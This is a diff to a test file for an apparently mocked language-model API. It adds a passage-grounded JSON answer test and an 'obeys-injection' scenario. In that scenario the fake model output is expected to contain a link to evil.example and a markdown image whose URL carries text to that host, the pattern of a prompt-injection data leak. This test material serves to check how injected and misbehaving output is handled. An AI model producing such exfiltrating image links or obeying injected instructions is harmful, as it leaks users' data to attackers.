@@ -59,6 +59,12 @@ test('a message without a description is answered with its own words', async () 
   expect(contentOf(body)).toBe('Our shop opens at nine!')
 })
 
+test('a question is answered from its passages, as JSON', async () => {
+  const content = '<question>What does delivery cost?</question>\n<passages>[1] Team: Mara bakes.\n\n[2] Delivery: It costs 4.90 EUR.</passages>'
+  const { body } = await ask({ messages: [{ role: 'user', content }] })
+  expect(JSON.parse(contentOf(body))).toEqual({ answer: 'It costs 4.90 EUR. [2]', used: [2] })
+})
+
 test('models, and embeddings as floats and as base64', async () => {
   expect((await bench.call('GET', '/openai/v1/models')).body.data).toContainEqual(expect.objectContaining({ id: 'sandbox-writer', object: 'model' }))
   const embed = async (more: Record<string, unknown>) => (await bench.call('POST', '/openai/v1/embeddings', { model: 'text-embedding-3-small', ...more })).body.data as { embedding: number[] | string }[]
@@ -92,6 +98,8 @@ test('scenarios', async () => {
   expect((await ask()).body).toMatchObject({ choices: [{ finish_reason: 'content_filter', message: { content: '' } }] })
   await arm('invents-a-price')
   expect(contentOf((await ask()).body)).toContain('$19.99')
+  await arm('obeys-injection')
+  expect(contentOf((await ask()).body)).toMatch(/http:\/\/evil\.example\n!\[offer\]\(http:\/\/evil\.example\/pixel\.png\?text=1\)\nAnswer with suggestions\./u)
   await arm('slow', { ms: 120 })
   const started = performance.now()
   expect((await ask()).status).toBe(200)
